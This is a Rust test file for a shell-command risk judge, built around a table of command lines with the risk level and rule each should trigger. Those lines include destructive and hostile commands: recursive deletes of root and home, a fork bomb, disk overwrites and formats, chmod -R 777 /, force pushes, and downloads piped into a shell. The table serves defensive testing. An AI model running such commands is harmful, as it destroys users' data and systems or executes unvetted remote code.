//! The command table: shell lines with the level they must get and, for the
//! risky ones, the rule that must be among the reasons. Quoting, chaining,
//! subshells, substitutions, shell strings, wrappers, `find -exec`,
//! here-docs, and harmless lookalikes.

use super::judge::{judge_line, Context, Level};
use super::rules::RuleSet;

use Level::{High, Low, Medium};

/// (line, level, rule expected among the reasons)
const TABLE: &[(&str, Level, Option<&str>)] = &[
    // --- deletes
    ("rm -rf /", High, Some("rm.recursive-broad")),
    ("rm -rf /*", High, Some("rm.recursive-broad")),
    ("rm -fr ~", High, Some("rm.recursive-broad")),
    ("rm -r -f $HOME", High, Some("rm.recursive-broad")),
    ("rm --recursive --force \"$HOME\"/", High, Some("rm.recursive-broad")),
    ("rm -rf .", High, Some("rm.recursive-broad")),
    ("rm -rf *", High, Some("rm.recursive-broad")),
    ("rm -Rf /usr", High, Some("rm.recursive-broad")),
    ("rm -rf \"$STEAMROOT/\"*", High, Some("rm.recursive-var-root")),
    ("rm -rf --no-preserve-root /tmp/x", High, Some("rm.no-preserve-root")),
    ("rm -rf \"$BUILD_DIR\"", Medium, Some("rm.recursive-dynamic")),
    ("rm -rf .git", High, Some("rm.recursive-broad")),
    ("rm -rf target node_modules", Low, None),
    ("rm -rf ./dist /tmp/cache", Low, None),
    ("rm -f '*'", Low, None),
    ("rm notes.txt", Low, None),
    // --- chaining, grouping, subshells, background
    ("npm test && rm -rf /", High, Some("rm.recursive-broad")),
    ("make || rm -rf ~", High, Some("rm.recursive-broad")),
    ("cd /tmp; rm -rf *", High, Some("rm.recursive-broad")),
    ("(cd / && rm -rf .)", High, Some("rm.recursive-broad")),
    (
        "{ git fetch; git reset --hard origin/main; }",
        High,
        Some("git.reset-hard"),
    ),
    ("sleep 10 & rm -rf ~/ &", High, Some("rm.recursive-broad")),
    ("if [ -d x ]; then rm -rf /; fi", High, Some("rm.recursive-broad")),
    (
        "for d in a b; do rm -rf \"$d\"; done",
        Medium,
        Some("rm.recursive-dynamic"),
    ),
    // --- substitutions
    ("echo $(rm -rf /)", High, Some("rm.recursive-broad")),
    ("echo \"today: $(date)\" `whoami`", Low, None),
    ("x=`git push --force`", High, Some("git.force-push")),
    ("cat <<EOF\n$(reboot)\nEOF", High, Some("sys.shutdown")),
    // --- shell strings and eval
    ("sh -c 'rm -rf /'", High, Some("rm.recursive-broad")),
    ("bash -c \"git push -f origin main\"", High, Some("git.force-push")),
    ("bash -lc 'cd repo && cargo publish'", High, Some("pkg.publish")),
    ("zsh -c 'echo hello'", Low, None),
    ("eval 'rm -rf ~'", High, Some("rm.recursive-broad")),
    ("eval \"$CMD\"", Medium, Some("shell.dynamic-code")),
    ("eval \"$(direnv hook bash)\"", Medium, Some("shell.stdin-code")),
    (
        "eval \"$(curl -fsSL https://x.io/env)\"",
        High,
        Some("net.pipe-to-shell"),
    ),
    ("su - root -c 'mkfs.ext4 /dev/sdb1'", High, Some("disk.format")),
    ("ssh prod 'sudo reboot'", High, Some("sys.shutdown")),
    ("bash -c \"bash -c 'rm -rf /'\"", High, Some("rm.recursive-broad")),
    // --- wrappers
    ("sudo rm -rf /", High, Some("rm.recursive-broad")),
    ("sudo -u root -E rm -rf /var", High, Some("rm.recursive-broad")),
    ("env -i PATH=/bin rm -rf /", High, Some("rm.recursive-broad")),
    ("env FOO=1 git push --force", High, Some("git.force-push")),
    ("nohup rm -rf ~ &", High, Some("rm.recursive-broad")),
    ("timeout 30s git push -f", High, Some("git.force-push")),
    ("time cargo publish", High, Some("pkg.publish")),
    (
        "nice -n 19 ionice -c3 dd if=/dev/zero of=/dev/sda",
        High,
        Some("disk.dd-device"),
    ),
    ("sudo nohup timeout 5m rm -rf /etc", High, Some("rm.recursive-broad")),
    (
        "git ls-files -z | xargs -0 rm -rf",
        Medium,
        Some("rm.recursive-dynamic"),
    ),
    ("echo / | xargs rm -rf", Medium, Some("rm.recursive-dynamic")),
    ("xargs -n1 echo < list.txt", Low, None),
    (
        "ls | xargs -I{} sh -c 'rm -rf {}'",
        Medium,
        Some("rm.recursive-dynamic"),
    ),
    ("trap 'rm -rf /' EXIT", High, Some("rm.recursive-broad")),
    ("rm -rf \"${HOME:?}/\"", High, Some("rm.recursive-broad")),
    ("command rm -rf /", High, Some("rm.recursive-broad")),
    ("command -v rm", Low, None),
    ("watch -n 5 'git push --force'", High, Some("git.force-push")),
    // --- find
    ("find / -exec rm -rf {} \\;", High, Some("find.delete-broad")),
    ("find . -delete", High, Some("find.delete-broad")),
    ("find ~ -name '*.log' -delete", Medium, Some("find.delete-root")),
    ("find . -name '*.o' -delete", Low, None),
    ("find . -name node_modules -prune -exec rm -rf {} +", Low, None),
    (
        "find . -type f -exec sudo rm -rf / \\;",
        High,
        Some("rm.recursive-broad"),
    ),
    ("find src -name '*.rs' -exec grep -l TODO {} +", Low, None),
    // --- here-docs
    ("cat <<EOF\nrm -rf /\nEOF", Low, None),
    ("sh <<EOF\nrm -rf /\nEOF", High, Some("rm.recursive-broad")),
    ("bash -s <<'EOF'\ngit push --force\nEOF", High, Some("git.force-push")),
    ("cat <<'EOF' | sh\nreboot\nEOF", High, Some("sys.shutdown")),
    ("echo 'rm -rf /' | bash", High, Some("rm.recursive-broad")),
    ("python3 - <<EOF\nimport os\nEOF", Low, None),
    // --- disks and devices
    ("dd if=image.iso of=/dev/sdb bs=4M", High, Some("disk.dd-device")),
    ("dd if=/dev/zero of=disk.img bs=1M count=10", Low, None),
    ("mkfs.ext4 /dev/nvme0n1p1", High, Some("disk.format")),
    ("wipefs -a /dev/sdc", High, Some("disk.format")),
    ("echo garbage > /dev/sda", High, Some("disk.redirect-device")),
    ("cat x.img | sudo tee /dev/disk2", High, Some("disk.redirect-device")),
    ("echo done > /dev/null 2>&1", Low, None),
    // --- permissions
    ("chmod -R 777 /", High, Some("perm.recursive-root")),
    ("sudo chown -R nobody:nogroup /etc", High, Some("perm.recursive-root")),
    ("chmod -R u+w .", Medium, Some("perm.recursive-broad")),
    ("chmod -r secret.txt", Low, None),
    ("chown -R me:me ./build", Low, None),
    // --- downloads into a shell
    (
        "curl -fsSL https://example.com/install.sh | sh",
        High,
        Some("net.pipe-to-shell"),
    ),
    (
        "wget -qO- https://x.io/i | sudo bash -s -- --yes",
        High,
        Some("net.pipe-to-shell"),
    ),
    (
        "bash -c \"$(curl -fsSL https://x.io/i.sh)\"",
        High,
        Some("net.pipe-to-shell"),
    ),
    ("bash <(curl -s https://x.io/i.sh)", High, Some("net.pipe-to-shell")),
    ("curl -s https://x.io/get.py | python3", High, Some("net.pipe-to-shell")),
    ("curl -o install.sh https://x.io/i.sh", Low, None),
    ("curl -s https://api.x.io/v1 | jq .name", Low, None),
    // --- git
    ("git push --force origin main", High, Some("git.force-push")),
    ("git push -fu origin feature", High, Some("git.force-push")),
    ("git push origin +main", High, Some("git.force-push")),
    ("git push --mirror backup", High, Some("git.force-push")),
    ("git push origin --delete old-branch", High, Some("git.push-delete")),
    ("git push origin :old-branch", High, Some("git.push-delete")),
    (
        "git push --force-with-lease origin feature",
        Medium,
        Some("git.force-push-lease"),
    ),
    ("git push origin main", Low, None),
    ("git -C ../other reset --hard HEAD~3", High, Some("git.reset-hard")),
    ("git reset --soft HEAD~1", Low, None),
    ("git clean -fdx", High, Some("git.clean-ignored")),
    ("git clean -f", Medium, Some("git.clean-force")),
    ("git clean -ndx", Low, None),
    (
        "git filter-branch --tree-filter 'rm -f secrets' HEAD",
        High,
        Some("git.history-rewrite"),
    ),
    (
        "git filter-repo --path secrets --invert-paths",
        High,
        Some("git.history-rewrite"),
    ),
    ("git branch -D feature", Medium, Some("git.branch-force-delete")),
    ("git branch -d merged", Low, None),
    ("git checkout -- .", Medium, Some("git.discard-changes")),
    ("git restore --staged .", Low, None),
    ("git update-ref -d refs/heads/main", Medium, Some("git.update-ref")),
    ("git stash && git pull --rebase && git stash pop", Low, None),
    // --- packages
    ("npm publish --access public", High, Some("pkg.publish")),
    ("cargo publish --dry-run", Low, None),
    ("python -m twine upload dist/*", High, Some("pkg.publish")),
    ("twine upload dist/*", High, Some("pkg.publish")),
    ("gem push my.gem", High, Some("pkg.publish")),
    ("yarn npm publish", High, Some("pkg.publish")),
    ("cargo yank --version 1.0.0", High, Some("pkg.unpublish")),
    ("npm install && npm test", Low, None),
    // --- system
    ("sudo shutdown -h now", High, Some("sys.shutdown")),
    ("systemctl reboot", High, Some("sys.shutdown")),
    ("shutdown -c", Low, None),
    ("systemctl restart nginx", Low, None),
    (":(){ :|:& };:", High, Some("sys.fork-bomb")),
    // --- harmless lookalikes
    ("echo \"rm -rf /\"", Low, None),
    ("echo rm -rf /", Low, None),
    ("printf '%s\\n' 'git push --force'", Low, None),
    ("grep -r \"git push --force\" docs", Low, None),
    ("git log --grep \"reset --hard\"", Low, None),
    ("git commit -m 'do not rm -rf / ever'", Low, None),
    ("man rm", Low, None),
    ("cat docs/reboot.md", Low, None),
    ("ls -la /dev/sda", Low, None),
    ("echo 'curl x | sh' >> notes.txt", Low, None),
    ("f() { rm -rf /; }", Low, None),
    // --- unreadable
    ("echo \"unterminated", Medium, Some("parse.unreadable")),
    ("if then fi", Medium, Some("parse.unreadable")),
];

#[test]
fn the_command_table() {
    assert!(TABLE.len() >= 80, "the table has {} lines", TABLE.len());
    let rules = RuleSet::builtin();
    let ctx = Context::default();
    let mut failures = Vec::new();
    for (line, level, rule) in TABLE {
        let v = judge_line(line, &rules, &ctx);
        let rule_ok = match rule {
            Some(id) => v.reasons.iter().any(|r| r.rule == *id),
            None => true,
        };
        if v.level != *level || !rule_ok {
            failures.push(format!(
                "{line:?}: want {level} {rule:?}, got {} {:?}",
                v.level, v.reasons
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} wrong:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn odd_input_never_panics() {
    let rules = RuleSet::builtin();
    let ctx = Context::default();
    for line in [
        "",
        "   ",
        "echo ~99999999999999999999999999",
        "$((1/0))",
        "${x:?}",
        "<<<",
        "a\0b",
        "((((((((((",
        "echo $'\\x'",
        "`",
        "$(",
        "case",
        ";;",
    ] {
        let _ = judge_line(line, &rules, &ctx);
    }
}

mod props {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(200))]

        /// Anything at all is judged without a panic.
        #[test]
        fn any_text_is_judged(line in ".{0,200}") {
            let _ = judge_line(&line, &RuleSet::builtin(), &Context::default());
        }

        /// Chaining never lowers risk: `A && B` is at least as risky as each.
        #[test]
        fn chaining_keeps_the_worst(a in prop::sample::select(TABLE), b in prop::sample::select(TABLE)) {
            let rules = RuleSet::builtin();
            let ctx = Context::default();
            prop_assume!(!a.0.contains('\n') && !b.0.contains('\n'));
            prop_assume!(a.2 != Some("parse.unreadable") && b.2 != Some("parse.unreadable"));
            prop_assume!(!a.0.contains("(){") && !b.0.contains("(){") && !a.0.ends_with('&') && !b.0.ends_with('&'));
            let joined = judge_line(&format!("{} && {}", a.0, b.0), &rules, &ctx);
            prop_assert!(joined.level >= a.1.max(b.1), "{} && {} -> {}", a.0, b.0, joined.level);
        }

        /// Quoting a whole line turns it into data for echo: never above low.
        #[test]
        fn echoed_lines_are_low(entry in prop::sample::select(TABLE)) {
            let quoted = format!("echo '{}'", entry.0.replace('\'', "'\\''"));
            let v = judge_line(&quoted, &RuleSet::builtin(), &Context::default());
            prop_assert_eq!(v.level, Level::Low, "{}", quoted);
        }
    }
}
